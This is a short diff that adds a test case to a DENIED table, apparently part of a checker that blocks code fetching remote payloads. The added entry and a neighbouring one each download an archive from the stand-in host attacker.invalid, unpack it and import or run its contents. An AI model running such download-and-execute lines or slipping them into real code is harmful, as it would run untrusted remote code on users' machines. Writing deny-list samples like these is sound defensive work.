@@ -278,6 +278,14 @@ DENIED: dict[str, dict[str, str]] = {
         "sys.path.insert(0, d)\n"
         "import payload\n"
     ),
+    "unpacked-download-made-a-site-folder": init(
+        "import shutil, site, tempfile, urllib.request\n"
+        "d = tempfile.mkdtemp()\n"
+        "f, _ = urllib.request.urlretrieve('https://attacker.invalid/x.zip')\n"
+        "shutil.unpack_archive(f, d, 'zip')\n"
+        "site.addsitedir(d)\n"
+        "import payload\n"
+    ),
     "extracted-download-run": init(
         "import io, os, subprocess, tarfile, urllib.request\n"
         "tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('https://attacker.invalid/x.tgz').read())).extractall('/tmp/.x')\n"
